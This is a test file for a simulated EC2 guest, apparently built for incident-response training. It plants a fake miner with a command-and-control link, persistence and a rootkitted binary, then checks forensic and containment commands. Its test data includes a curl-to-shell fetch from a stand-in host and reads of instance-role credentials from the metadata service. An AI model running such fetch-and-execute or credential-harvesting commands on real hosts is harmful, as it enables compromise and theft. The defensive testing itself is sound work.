import { beforeEach, describe, expect, it } from "vitest";
import { networkState, registerDomain } from "../physics/network/index.ts";
import { diskContent } from "../physics/instances/index.ts";
import { EVERYWHERE } from "../physics/network/small-vpc.ts";
import { PROGRAMS } from "./base-image.ts";
import { COMMANDS } from "./commands/index.ts";
import { setGuestAws } from "./aws/command.ts";
import { defineContent } from "./disks.ts";
import { SmallGuest } from "./small-guest.ts";
import { presignUrl } from "../wire/sigv4.ts";
import { publishWebsite } from "./websites.ts";

const C2 = "203.0.113.9";
let world: SmallGuest;

beforeEach(() => {
  world = new SmallGuest();
});

/** A miner with a connection to its master, as an adversary leaves it. */
function infect(): { pid: number; flowId: string } {
  const [miner] = world.guest.plant({
    processes: [
      {
        command: `/tmp/.x/kworkerd -o ${C2}:4444`,
        user: "webapp",
        cpu: 97,
        strings: ["wallet=4AdUndXHHZ"],
        environment: { LD_PRELOAD: "/tmp/.x/hide.so" },
      },
    ],
    files: { "/tmp/.x/kworkerd": { content: "miner", mode: 0o755, owner: "webapp" } },
    memory: ["c2-session-key=0f1e2d"],
  });
  const flow = world.guest.connect({ remoteIp: C2, remotePort: 4444, label: "c2", processId: miner!.pid });
  return { pid: miner!.pid, flowId: flow!.id };
}

const stateOf = (flowId: string) => networkState(world.scope).flows.get(flowId)?.state;

describe("the base image", () => {
  it("has a program for every command, so that the shell finds it", () => {
    expect(Object.keys(COMMANDS).filter((name) => !PROGRAMS.includes(name))).toEqual([]);
  });
});

describe("looking around", () => {
  it.each([
    ["ps aux | grep [k]workerd", /^webapp +\d+ 97\.0 .* \/tmp\/\.x\/kworkerd -o 203\.0\.113\.9:4444\n$/],
    ["ps -eo pid,user,args --sort=-%cpu | head -2 | tail -1", /webapp +\/tmp\/\.x\/kworkerd/],
    ["top -b -n1 | sed -n 7p", /webapp .* 97\.0 .* kworkerd/],
    ["ss -tnp", /ESTAB.* 10\.0\.1\.10:\d+ +203\.0\.113\.9:4444 +users:\(\("kworkerd",pid=\d+,fd=\d+\)\)/],
    ["ss -tlnp | grep :22", /LISTEN.*sshd/],
    ["netstat -antp", /203\.0\.113\.9:4444 +ESTABLISHED \d+\/kworkerd/],
    ["lsof -i -P -n", /kworkerd.*TCP .*->203\.0\.113\.9:4444 \(ESTABLISHED\)/],
    ["ls -l /proc/$(pgrep kworkerd)/exe", /-> \/tmp\/\.x\/kworkerd$/m],
    ["tr '\\0' '\\n' < /proc/$(pgrep kworkerd)/environ", /^LD_PRELOAD=\/tmp\/\.x\/hide\.so\n$/],
    ["find / -type f -mmin -10 -path '/tmp/*'", /^\/tmp\/\.x\/kworkerd\n$/],
    ["ls -l /tmp/.x", /^-rwxr-xr-x 1 webapp webapp 5 Jan {2}1 00:00 kworkerd$/m],
    ["sha256sum /tmp/.x/kworkerd | cut -c1-8", /^[0-9a-f]{8}\n$/],
    ["uname -r; hostname", /amzn2023\.x86_64\nip-10-0-1-10\.ec2\.internal\n/],
    ["date -u +%FT%TZ", /^2026-01-01T00:00:00Z\n$/],
    ["systemctl is-active sshd", /^active\n$/],
    ["/usr/sbin/iptables -S", /^-P INPUT ACCEPT$/m],
    ["lsblk", /nvme0n1p1 .* \/$/m],
    ["sudo id -un; whoami", /root/],
    ["rpm -qf /usr/bin/ps", /^procps-ng/],
  ])("%s", async (command, shown) => {
    infect();
    expect(await world.sh(command)).toMatch(shown);
  });

  it("says that a running program was deleted", async () => {
    const { pid } = infect();
    await world.sh("rm /tmp/.x/kworkerd");
    expect(await world.sh(`readlink /proc/${pid}/exe`)).toBe("/tmp/.x/kworkerd (deleted)\n");
  });

  it("finds programs that are not as their package shipped them", async () => {
    expect(await world.sh("rpm -Va; true")).toBe("");
    world.guest.plant({ files: { "/usr/bin/ps": { content: "rootkit", mode: 0o755 } } });
    expect(await world.sh("rpm -V procps-ng || true")).toMatch(/S\.5.* \/usr\/bin\/ps/);
  });

  it("shows logins in every place that keeps them", async () => {
    const at = world.guest.now - 3_600_000;
    world.guest.plant({
      logins: [
        { user: "ec2-user", from: "198.51.100.5", at, endedAt: at + 600_000 },
        { user: "support", from: C2, at: at + 60_000, tty: "pts/1" },
        { user: "root", from: C2, at, failed: true },
      ],
      users: [{ name: "support", groups: ["wheel"] }],
    });
    expect(await world.sh("last")).toMatch(
      /support .*203\.0\.113\.9 .*still logged in\nec2-user .*23:00 - 23:10 {2}\(00:10\)/,
    );
    expect(await world.sh("last -F")).toMatch(
      /support .* still logged in\nec2-user .* (\w{3} \w{3} [ \d]\d) 23:00:00 (\d{4}) - \1 23:10:00 \2 {2}\(00:10\)\n/,
    );
    expect(await world.sh("who")).toMatch(/support +pts\/1 .*\(203\.0\.113\.9\)/);
    expect(await world.sh("lastlog | grep support")).toContain(C2);
    expect(
      await world.sh("grep -c Accepted /var/log/secure; grep 'Failed password' /var/log/secure"),
    ).toMatch(/^2\n.*root from/);
    expect(await world.sh("id support")).toMatch(/support.*wheel/);
  });

  it("counts the boot among what last shows, in its place", async () => {
    const boot = world.guest.memory.bootedAt;
    const login = { user: "ec2-user", from: "198.51.100.5" };
    world.guest.plant({ logins: [{ ...login, at: boot + 60_000, endedAt: boot + 120_000 }] });
    const time = (ms: number) => `${new Date(ms).toISOString().slice(11, 16)}`;
    expect(await world.sh("last")).toMatch(
      new RegExp(`^ec2-user .*\nreboot .* ${time(boot)} .*\n\nwtmp begins .* ${time(boot)}\n$`),
    );
    world.guest.plant({ logins: [{ ...login, at: boot - 3_600_000, endedAt: boot - 3_000_000 }] });
    expect(await world.sh("last")).toMatch(
      new RegExp(`^ec2-user .*\nreboot .*\nec2-user .*\n\nwtmp begins .* ${time(boot - 3_600_000)}\n$`),
    );
    expect(await world.sh("last -n 1 nobody")).toMatch(
      new RegExp(`^\nwtmp begins .* ${time(boot - 3_600_000)}`),
    );
  });

  it("logs a login with the user's own id and key, as far as it has them", async () => {
    const key = "AAAAC3NzaC1lZDI1NTE5AAAAIMSL9oS4MnY5PggBh3n3FW6lumVSSH2HU+0GcrWhhShF";
    const at = world.guest.now;
    const from = C2;
    world.guest.plant({
      files: { "/home/deploy/.ssh/authorized_keys": `# of the pipeline\nssh-ed25519 ${key} deploy\n` },
      users: [{ name: "deploy", uid: 1042 }, { name: "support" }],
      logins: ["deploy", "support", "nobody-here"].map((user) => ({ user, from, at, endedAt: at })),
    });
    const lines = (await world.sh("cut -d: -f4- /var/log/secure"))
      .replaceAll(/port \d+/g, "port N")
      .split("\n");
    expect(lines.map((line) => line.trim())).toEqual([
      // What `ssh-keygen -l` says of this key.
      `Accepted publickey for deploy from ${from} port N ssh2: ED25519 SHA256:gpuKrWkvt2uS0pgsTWZnTHhCjqLEszW7rOyYANATzFc`,
      "pam_unix(sshd:session): session opened for user deploy(uid=1042) by (uid=0)",
      "pam_unix(sshd:session): session closed for user deploy",
      `Accepted password for support from ${from} port N ssh2`,
      "pam_unix(sshd:session): session opened for user support(uid=1043) by (uid=0)",
      "pam_unix(sshd:session): session closed for user support",
      `Invalid user nobody-here from ${from} port N`,
      "",
    ]);
    expect(await world.sh("last")).not.toContain("nobody-here");
  });

  it("gives every block device a number of its own", async () => {
    world.attach("vol-data", "/dev/sdf");
    expect(await world.sh("lsblk | awk 'NR > 1 { print $2 }'")).toBe("259:0\n259:1\n259:2\n");
  });

  it("gives the same output for the same seed", async () => {
    const run = async () => {
      world = new SmallGuest();
      infect();
      return world.sh("ps aux; ss -tnp; avml /tmp/m; sha256sum /tmp/m; mktemp");
    };
    expect(await run()).toBe(await run());
  });
});

describe("acting", () => {
  it("ends a process with its connections", async () => {
    const { pid, flowId } = infect();
    expect(stateOf(flowId)).toBe("open");
    await world.sh(`kill -9 ${pid}`);
    expect(stateOf(flowId)).toBe("closed");
    expect((await world.guest.exec(`kill ${pid}`)).stderr).toContain("No such process");
    expect((await world.guest.exec("pgrep kworkerd")).exitCode).toBe(1);
  });

  it.each([
    [`iptables -A OUTPUT -d ${C2} -j DROP`, "closed"],
    [`iptables -I INPUT 1 -s ${C2}/24 -j REJECT`, "closed"],
    ["iptables -A OUTPUT -d 198.51.100.0/24 -j DROP", "open"],
    ["iptables -A OUTPUT -p tcp --dport 4444 -j DROP", "closed"],
    [`iptables -A OUTPUT -d ${C2} -m state --state NEW -j DROP`, "open"],
    [`iptables -A OUTPUT -d ${C2} -j ACCEPT; iptables -A OUTPUT -j DROP`, "open"],
    ["iptables -P OUTPUT DROP", "closed"],
  ])("%s leaves the connection %s", async (command, state) => {
    const { flowId, pid } = infect();
    await world.sh(command);
    expect(stateOf(flowId)).toBe(state);
    const again = world.guest.connect({ remoteIp: C2, remotePort: 4444, label: "c2", processId: pid });
    expect(again !== undefined).toBe(state === "open" && !command.includes("NEW"));
  });

  it("loses RAM when the power goes, and keeps what is on the disk", async () => {
    infect();
    world.guest.plant({
      files: {
        "/etc/systemd/system/backup.service": "[Service]\nExecStart=/opt/.b/agent --quiet\nUser=root\n",
        "/etc/systemd/system/multi-user.target.wants/backup.service": {
          link: "/etc/systemd/system/backup.service",
        },
      },
      cron: [{ user: "webapp", line: "@reboot /tmp/.x/kworkerd --again" }],
    });
    await world.sh("echo note > /root/note; touch /tmp/x");
    world.restart();
    expect(await world.sh("cat /root/note")).toBe("note\n");
    const processes = await world.sh("ps -ef");
    expect(processes).not.toContain(`${C2}:4444`);
    expect(processes).toContain("/opt/.b/agent --quiet");
    expect(processes).toMatch(/webapp .*kworkerd --again/);
  });

  it("starts and stops services", async () => {
    await world.sh("systemctl stop web");
    expect((await world.guest.exec("systemctl is-active web")).stdout).toBe("inactive\n");
    expect(await world.sh("ss -tln")).not.toContain(":80 ");
    await world.sh("systemctl start web");
    expect(await world.sh("ss -tln")).toContain(":80 ");
  });

  it("refuses to run while the power is off", async () => {
    world.ec2.instances.update(world.instanceId, (row) => {
      row.state = "stopped";
      delete row.memoryId;
      delete row.bootedAt;
    });
    await expect(world.guest.exec("ps")).rejects.toThrow("not running");
  });
});

describe("memory captures", () => {
  it.each([
    "avml /tmp/mem",
    "/bin/avml /tmp/mem",
    'insmod /opt/forensics/lime.ko "path=/tmp/mem format=lime"',
  ])("%s hold what lives in RAM", async (command) => {
    infect();
    const { durationMs, exitCode } = await world.guest.exec(command);
    expect([exitCode, durationMs]).toEqual([0, world.world.pace("memory-capture")]);
    const strings = await world.sh("strings /tmp/mem");
    for (const text of [
      `${C2}:4444`,
      "wallet=4AdUndXHHZ",
      "c2-session-key=0f1e2d",
      "LD_PRELOAD=/tmp/.x/hide.so",
    ])
      expect(strings).toContain(text);
    expect(await world.sh("head -c 4 /tmp/mem")).toBe("EMiL");
  });

  it("are smaller in AVML's own format, and hold the same", async () => {
    infect();
    await world.sh("avml /tmp/plain && avml --compress /tmp/small");
    const [plain = 0, small = 0] = (await world.sh("stat -c %s /tmp/plain /tmp/small"))
      .split("\n")
      .map(Number);
    expect(small).toBeLessThan(plain * 0.7);
    expect(await world.sh("head -c 4 /tmp/small")).toBe("AVML");
    expect(await world.sh("strings /tmp/small")).toContain("wallet=4AdUndXHHZ");
  });

  it("come from a program that stands in one place", async () => {
    for (const name of ["avml", "aws"]) {
      expect(await world.sh(`which ${name}`)).toBe(`/usr/bin/${name}\n`);
      expect(await world.sh(`ls /usr/bin/${name} /usr/local/bin/${name} 2>&1 || true`)).toMatch(
        /cannot access '\/usr\/local\/bin\//,
      );
    }
  });

  it("are not on the disk image", async () => {
    infect();
    expect(
      await world.sh("dd if=/dev/xvda bs=1M 2>/dev/null | strings | grep -c c2-session-key || true"),
    ).toBe("0\n");
    expect(await world.sh("dd if=/dev/xvda bs=1M 2>/dev/null | strings | grep -c kworkerd")).not.toBe("0\n");
  });
});

describe("avml's command line", () => {
  it.each([
    ["avml", 2, /^error: the following required arguments were not provided:\n {2}<FILENAME>\n/],
    [
      "avml --bogus /tmp/m",
      2,
      /^error: unexpected argument '--bogus' found\n[^]*Usage: avml \[OPTIONS\] <FILENAME>/,
    ],
    ["avml /tmp/m /tmp/n", 2, /^error: unexpected argument '\/tmp\/n' found\n/],
    ["avml /tmp/m --url", 2, /^error: a value is required for '--url <URL>' but none was supplied\n/],
    ["avml --url nowhere /tmp/m", 2, /^error: invalid value 'nowhere' for '--url <URL>'/],
    ["avml --source /dev/null /tmp/m", 2, /possible values: \/dev\/crash, \/dev\/mem, \/proc\/kcore/],
    ["avml --max-disk-usage 9 /tmp/m", 1, /--max-disk-usage is not part of this host/],
  ])("%s is refused, and nothing is captured", async (command, code, text) => {
    const { exitCode, stderr } = await world.guest.exec(command);
    expect(stderr).toMatch(text);
    expect(exitCode).toBe(code);
    expect((await world.guest.exec("ls /tmp/m")).exitCode).not.toBe(0);
  });

  it("shows its options", async () => {
    const help = await world.sh("avml --help");
    for (const option of ["--source", "--url", "--sas-url", "--delete"]) expect(help).toContain(option);
  });

  it.each([
    ["--url https://nowhere.example/m", "unable to upload file via PUT"],
    ["--sas-url https://nowhere.example/m", "unable to upload file to Azure Storage"],
  ])("says that %s did not take the image, and keeps it", async (upload, text) => {
    const { exitCode, stderr } = await world.guest.exec(`avml --delete ${upload} /tmp/m`);
    expect(stderr).toContain(text);
    expect(exitCode).toBe(1);
    expect(await world.sh("strings /tmp/m")).toContain("Linux version");
  });

  it("puts the image where a URL leads, and deletes it then", async () => {
    let taken = 0;
    registerDomain(world.world, "blobs.example", "203.0.113.40");
    publishWebsite(world.world, "blobs.example", ({ method, body }) => {
      taken = method === "PUT" ? body.length : 0;
      return { status: 201, body: "" };
    });
    await world.sh("avml --delete --url https://blobs.example/m /tmp/m");
    expect(taken).toBeGreaterThan(10_000);
    expect((await world.guest.exec("ls /tmp/m")).exitCode).not.toBe(0);
  });
});

describe("presigned URLs of S3", () => {
  function signer(aheadMs = 0) {
    world.call("s3", "CreateBucket", { Bucket: "evidence" });
    world.call("iam", "CreateUser", { UserName: "analyst" });
    world.call("iam", "PutUserPolicy", {
      UserName: "analyst",
      PolicyName: "s3",
      PolicyDocument: JSON.stringify({
        Version: "2012-10-17",
        Statement: [{ Effect: "Allow", Action: "s3:*", Resource: "*" }],
      }),
    });
    const { AccessKey } = world.call("iam", "CreateAccessKey", { UserName: "analyst" }) as {
      AccessKey: { AccessKeyId: string; SecretAccessKey: string };
    };
    const key = { accessKeyId: AccessKey.AccessKeyId, secretAccessKey: AccessKey.SecretAccessKey };
    return (endpoint: string, path: string, method: "GET" | "PUT") =>
      presignUrl(
        endpoint,
        path,
        { ...key, region: "us-east-1" },
        world.world.clock.now() + aheadMs,
        600,
        method,
      );
  }
  const VIRTUAL = "https://evidence.s3.us-east-1.amazonaws.com";
  const BY_PATH = "https://s3.us-east-1.amazonaws.com";

  it("take what curl puts there from the instance's address, and give it back", async () => {
    const sign = signer();
    const seen: { operation: string; sourceIp: string; principal: string; error?: string }[] = [];
    world.world.bus.on("call", ({ call, error }) =>
      seen.push({
        operation: call.operation,
        sourceIp: call.sourceIp,
        principal: "arn" in call.principal ? call.principal.arn : call.principal.type,
        ...(error && { error: error.code }),
      }),
    );
    await world.sh("echo taken > /tmp/e");
    await world.sh(`curl -fsS -T /tmp/e '${sign(BY_PATH, "/evidence/case/e", "PUT")}'`);
    expect(await world.sh(`curl -fsS '${sign(VIRTUAL, "/case/e", "GET")}'`)).toBe("taken\n");
    expect(await world.sh(`wget -q -O - '${sign(VIRTUAL, "/case/e", "GET")}'`)).toBe("taken\n");
    const analyst = "arn:aws:iam::111122223333:user/analyst";
    expect(seen).toEqual(
      ["PutObject", "GetObject", "GetObject"].map((operation) => ({
        operation,
        sourceIp: "198.51.100.20",
        principal: analyst,
      })),
    );
  });

  it("are good when the clock of who signs them is ahead", async () => {
    const ahead = signer(3_600_000);
    await world.sh("echo taken > /tmp/e");
    await world.sh(`curl -fsS -T /tmp/e '${ahead(VIRTUAL, "/e", "PUT")}'`);
    expect(await world.sh(`curl -fsS '${ahead(VIRTUAL, "/e", "GET")}'`)).toBe("taken\n");
  });

  it("are refused when they are good for something else, too old or not signed at all", async () => {
    const sign = signer();
    await world.sh("echo taken > /tmp/e");
    const put = sign(VIRTUAL, "/e", "PUT");
    const code = (command: string) => world.sh(`${command} -s -o /tmp/answer -w '%{http_code}'`);
    expect(await code(`curl '${put}'`)).toBe("403");
    expect(await world.sh("cat /tmp/answer")).toContain("<Code>SignatureDoesNotMatch</Code>");
    await world.pass(601_000);
    expect(await code(`curl -T /tmp/e '${put}'`)).toBe("403");
    expect(await world.sh("cat /tmp/answer")).toContain("Request has expired");
    expect(await code(`curl ${VIRTUAL}/e`)).toBe("403");
  });

  it("take AVML's image, though AVML misses the answer that Azure gives", async () => {
    const sign = signer();
    const { exitCode, stderr } = await world.guest.exec(
      `avml --delete --url '${sign(VIRTUAL, "/m", "PUT")}' /tmp/m`,
    );
    expect([exitCode, stderr]).toEqual([1, expect.stringContaining("unexpected status code: 200")]);
    const [kept, back] = (
      await world.sh(
        `curl -s -o /tmp/back '${sign(VIRTUAL, "/m", "GET")}'; sha256sum < /tmp/m; sha256sum < /tmp/back`,
      )
    ).split("\n");
    expect(back).toBe(kept);
  });
});

it("sends nothing to whom it cannot connect", async () => {
  let bytes = 0;
  registerDomain(world.world, "closed.example", "203.0.113.41");
  world.world.bus.on("traffic", (traffic) => {
    if (traffic.destinationIp === "203.0.113.41") bytes += traffic.bytes;
  });
  await world.sh("head -c 100000 /dev/zero > /tmp/big");
  expect((await world.guest.exec("curl -sS -T /tmp/big https://closed.example/")).exitCode).toBe(7);
  expect(bytes).toBeLessThan(1_000);
});

describe("time", () => {
  it("is counted when nobody waits for it", async () => {
    const { durationMs, stdout } = await world.guest.exec("date +%s; sleep 90; date +%s");
    expect(durationMs).toBe(90_000);
    const [before, after] = stdout.trim().split("\n").map(Number);
    expect(after! - before!).toBe(90);
  });

  it("passes on the clock for commands that are started in time", async () => {
    const ended: number[] = [];
    world.world.clock.after(1_000, "start", () =>
      world.guest
        .start(
          "sleep 10; echo a > /tmp/a; sleep 10; echo b > /tmp/b",
          {},
          () => void ended.push(world.guest.now),
        )
        .settled(),
    );
    const begin = world.guest.now;
    await world.pass(12_000);
    expect(await world.sh("ls /tmp")).toBe("a\n");
    await world.pass(60_000);
    expect(await world.sh("ls /tmp")).toBe("a\nb\n");
    expect(ended).toEqual([begin + 21_000]);
  });

  it("ends what runs when the power goes", async () => {
    const run = world.guest.start("sleep 10; echo late > /tmp/late");
    await run.settled();
    world.restart();
    await world.pass(20_000);
    expect(await run.done).toMatchObject({ killed: true, exitCode: 137 });
    expect(world.guest.disk.get("/tmp/late")).toBeUndefined();
  });

  it("is limited by timeout", async () => {
    expect(await world.guest.exec("timeout 5 sleep 60; echo $?")).toMatchObject({
      stdout: "124\n",
      durationMs: 5_000,
    });
  });
});

describe("the metadata service", () => {
  const META = "http://169.254.169.254/latest";
  const withToken = `T=$(curl -s -X PUT ${META}/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60'); curl -s -H "X-aws-ec2-metadata-token: $T"`;

  it("answers both versions unless tokens are required", async () => {
    expect(await world.sh(`curl -s ${META}/meta-data/instance-id`)).toBe("i-web");
    world.ec2.instances.update(
      world.instanceId,
      (row) => void (row.metadata = { ...row.metadata, HttpTokens: "required" }),
    );
    expect(await world.sh(`curl -s -o /dev/null -w '%{http_code}' ${META}/meta-data/instance-id`)).toBe(
      "401",
    );
    expect(await world.sh(`${withToken} ${META}/meta-data/instance-id`)).toBe("i-web");
    expect(
      (await world.guest.exec(`${withToken.replace("60'", "60'; sleep 61")} ${META}/meta-data/instance-id`))
        .stdout,
    ).toContain("i-web");
    world.ec2.instances.update(
      world.instanceId,
      (row) => void (row.metadata = { ...row.metadata, HttpEndpoint: "disabled" }),
    );
    expect(await world.sh(`curl -s -o /dev/null -w '%{http_code}' ${META}/meta-data/`)).toBe("403");
  });

  const keyOf = async () =>
    (
      JSON.parse(await world.sh(`curl -s ${META}/meta-data/iam/security-credentials/web`)) as {
        AccessKeyId: string;
      }
    ).AccessKeyId;

  it("hands out the same credentials until shortly before their end (fact 16)", async () => {
    const first = await keyOf();
    await world.pass(5 * 3_600_000);
    expect(await keyOf()).toBe(first);
    world.call("iam", "RemoveRoleFromInstanceProfile", { InstanceProfileName: "web", RoleName: "web" });
    expect(await keyOf()).toBe(first);
    world.call("iam", "AddRoleToInstanceProfile", { InstanceProfileName: "web", RoleName: "web" });
    expect(await keyOf()).toBe(first);
    await world.pass(3_600_000);
    expect(await keyOf()).not.toBe(first);
  });

  it("hands out others after a stop and start, and none without a profile", async () => {
    const first = await keyOf();
    world.restart();
    expect(await keyOf()).not.toBe(first);
    world.disassociate();
    expect(
      await world.sh(`curl -s -o /dev/null -w '%{http_code}' ${META}/meta-data/iam/security-credentials/`),
    ).toBe("404");
  });
});

describe("aws inside", () => {
  beforeEach(() => {
    world.call("s3", "CreateBucket", { Bucket: "evidence" });
  });

  it("calls as the instance's role, from the instance's address", async () => {
    const calls: string[] = [];
    world.world.bus.on(
      "call",
      ({ call }) => void calls.push(`${call.service}:${call.operation} ${call.sourceIp} ${call.actor}`),
    );
    const { stdout } = await world.guest.exec("aws sts get-caller-identity", { actor: "adversary" });
    expect(JSON.parse(stdout)).toMatchObject({ Arn: "arn:aws:sts::111122223333:assumed-role/web/i-web" });
    expect(calls.at(-1)).toBe("sts:GetCallerIdentity 198.51.100.20 adversary");
  });

  it("reaches an access point of its VPC only by way of a VPC endpoint", async () => {
    const { AccessPointArn } = world.call("s3control", "CreateAccessPoint", {
      AccountId: "111122223333",
      Name: "inside",
      Bucket: "evidence",
      VpcConfiguration: { VpcId: "vpc-1" },
    });
    const copy = `echo one > /tmp/1; aws s3 cp /tmp/1 s3://${AccessPointArn}/1`;
    expect((await world.guest.exec(copy)).stderr).toContain("AccessDenied");
    world.ec2.vpcEndpoints.put("vpce-s3", {
      VpcEndpointId: "vpce-s3",
      VpcEndpointType: "Gateway",
      VpcId: "vpc-1",
      ServiceName: "com.amazonaws.us-east-1.s3",
    });
    world.routes("subnet-public", { DestinationPrefixListId: "pl-63a5400a", GatewayId: "vpce-s3" });
    const seen: unknown[] = [];
    world.world.bus.on("call", ({ call }) => void seen.push(call.vpcEndpoint));
    await world.sh(copy);
    expect(seen).toContainEqual({ id: "vpce-s3", vpcId: "vpc-1" });
    expect(await world.sh(`aws s3 cp s3://${AccessPointArn}/1 -`)).toBe("one\n");
  });

  it("gets through a VPC endpoint what its policy lets through", async () => {
    const VpcEndpointId = "vpce-s3";
    const policy = (...buckets: string[]): string =>
      JSON.stringify({
        Statement: {
          Effect: "Allow",
          Principal: "*",
          Action: "s3:*",
          Resource: buckets.flatMap((name) => [`arn:aws:s3:::${name}`, `arn:aws:s3:::${name}/*`]),
        },
      });
    world.ec2.vpcEndpoints.put(VpcEndpointId, {
      VpcEndpointId,
      VpcEndpointType: "Gateway",
      VpcId: "vpc-1",
      ServiceName: "com.amazonaws.us-east-1.s3",
      PolicyDocument: policy("another"),
    });
    world.routes("subnet-public", { DestinationPrefixListId: "pl-63a5400a", GatewayId: VpcEndpointId });
    const write = "echo one | aws s3 cp - s3://evidence/1";
    expect((await world.guest.exec(write)).stderr).toContain(
      'is not authorized to perform: s3:PutObject on resource: "arn:aws:s3:::evidence/1" because no VPC endpoint policy allows the s3:PutObject action',
    );
    world.ec2.vpcEndpoints.update(
      VpcEndpointId,
      (row) => void (row.PolicyDocument = policy("another", "evidence")),
    );
    await world.sh(write);
    expect(await world.sh("aws s3 cp s3://evidence/1 -")).toBe("one\n");
  });

  it("copies files to S3 and back", async () => {
    await world.sh(
      "echo one > /tmp/1; mkdir /tmp/d; echo two > /tmp/d/2; aws s3 cp /tmp/1 s3://evidence/case/; aws s3 sync /tmp/d s3://evidence/d",
    );
    expect(await world.sh("aws s3 ls s3://evidence/")).toMatch(/PRE case\/\n.*PRE d\//);
    expect(await world.sh("aws s3 cp s3://evidence/d/2 -")).toBe("two\n");
    await world.sh(
      "aws s3 cp s3://evidence/case/1 /tmp/back && cmp /tmp/1 /tmp/back || diff /tmp/1 /tmp/back",
    );
    expect((await world.guest.exec("aws s3 cp /tmp/nope s3://evidence/")).exitCode).toBe(255);
    expect((await world.guest.exec("aws s3 ls s3://no-such-bucket-here")).stderr).toContain("NoSuchBucket");
  });

  it("finds no way out of an isolated instance", async () => {
    world.swapGroups(world.interfaceId, world.group("sg-none"));
    const { stderr, exitCode, durationMs } = await world.guest.exec("aws s3 ls");
    expect([stderr, exitCode]).toEqual([
      expect.stringContaining("Could not connect to the endpoint URL"),
      255,
    ]);
    expect(durationMs).toBeGreaterThan(0);
  });

  it("keeps credentials that were taken before the profile went, and IMDS gives no new ones", async () => {
    const taken = JSON.parse(
      await world.sh("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web"),
    ) as Record<string, string>;
    world.disassociate();
    const environment = {
      AWS_ACCESS_KEY_ID: taken["AccessKeyId"]!,
      AWS_SECRET_ACCESS_KEY: taken["SecretAccessKey"]!,
      AWS_SESSION_TOKEN: taken["Token"]!,
    };
    expect((await world.guest.exec("aws s3 ls", { environment })).stdout).toContain("evidence");
    expect((await world.guest.exec("aws s3 ls")).exitCode).toBe(253);
  });

  it("can be replaced by a full one", async () => {
    setGuestAws(world.world, async (argv, io, send) => {
      await io.files.write("out/x", Buffer.from("!"));
      const key = io.env["AWS_ACCESS_KEY_ID"]!;
      const credentials = {
        accessKeyId: key,
        secretAccessKey: io.env["AWS_SECRET_ACCESS_KEY"]!,
        sessionToken: io.env["AWS_SESSION_TOKEN"]!,
      };
      const { Account } = await send({
        service: "sts",
        operation: "GetCallerIdentity",
        input: {},
        region: "us-east-1",
        credentials,
      });
      io.stdout(`${argv.join(" ")} ${String(Account)} ${(await io.files.list("out"))[0]?.path}\n`);
      return 7;
    });
    expect(await world.guest.exec("aws ec2 describe-instances", { cwd: "/tmp" })).toMatchObject({
      stdout: "ec2 describe-instances 111122223333 out/x\n",
      exitCode: 7,
    });
  });
});

describe("the world outside", () => {
  it("answers where somebody has put a server", async () => {
    registerDomain(world.world, "drop.example", C2);
    publishWebsite(world.world, "drop.example", ({ path }) => ({
      status: 200,
      body: `#!/bin/sh\necho from ${path}\n`,
    }));
    expect(await world.sh("curl -s http://drop.example/x.sh | sh")).toBe("from /x.sh\n");
    expect((await world.guest.exec("curl -s http://nowhere.example/")).exitCode).toBe(6);
    world.swapGroups(world.interfaceId, world.group("sg-none"));
    expect(await world.guest.exec("curl -sS -m 3 http://drop.example/x.sh")).toMatchObject({
      exitCode: 28,
      durationMs: 3_000,
    });
  });

  it("sees the application on the instance itself", async () => {
    expect(await world.sh("curl -s localhost")).toContain("It works");
    world.group("sg-open", { egress: true, cidrIpv4: EVERYWHERE });
    expect((await world.guest.exec("curl -s localhost:8080")).exitCode).toBe(7);
  });
});

describe("disks", () => {
  it("keep the content of the moment at which they are frozen", async () => {
    await world.sh("echo before > /root/state");
    const contentId = diskContent(world.world).freeze(world.scope, "vol-root");
    await world.sh("echo after > /root/state");
    world.attach("vol-copy", "/dev/sdf", contentId);
    await world.sh("mkdir /mnt/e");
    expect((await world.guest.exec("mount -o ro /dev/sdf1 /mnt/e")).stderr).toContain("duplicate UUID");
    await world.sh("mount -o ro,nouuid /dev/nvme1n1p1 /mnt/e");
    expect(await world.sh("cat /mnt/e/root/state /root/state")).toBe("before\nafter\n");
    expect((await world.guest.exec("echo x > /mnt/e/root/state")).stderr).toMatch(/read-only/i);
    expect(await world.sh("lsblk; umount /mnt/e; ls /mnt/e")).toMatch(/nvme1n1p1 .*\/mnt\/e\n$/);
  });

  it("are blank until somebody makes a file system", async () => {
    world.attach("vol-new", "/dev/sdg");
    expect((await world.guest.exec("mkdir /mnt/n; mount /dev/sdg /mnt/n")).stderr).toContain("wrong fs type");
    await world.sh("mkfs.xfs /dev/sdg; mount /dev/sdg /mnt/n; echo kept > /mnt/n/f");
    expect(world.guest.mounts().map((mount) => mount.point)).toEqual(["/", "/mnt/n"]);
    expect(await world.sh("dd if=/dev/sdg 2>/dev/null | strings | tail -1")).toBe("kept\n");
  });

  it("carry what an image was defined to hold", async () => {
    defineContent(world.world, "content-app", { "/srv/web/config.json": '{"db":"secret"}' });
    world.attach("vol-app", "/dev/sdh", "content-app");
    await world.sh("mkdir /mnt/a; mount -o nouuid /dev/sdh1 /mnt/a");
    expect(await world.sh("jq -r .db /mnt/a/srv/web/config.json; cat /mnt/a/etc/system-release")).toMatch(
      /^secret\nAmazon Linux/,
    );
  });
});
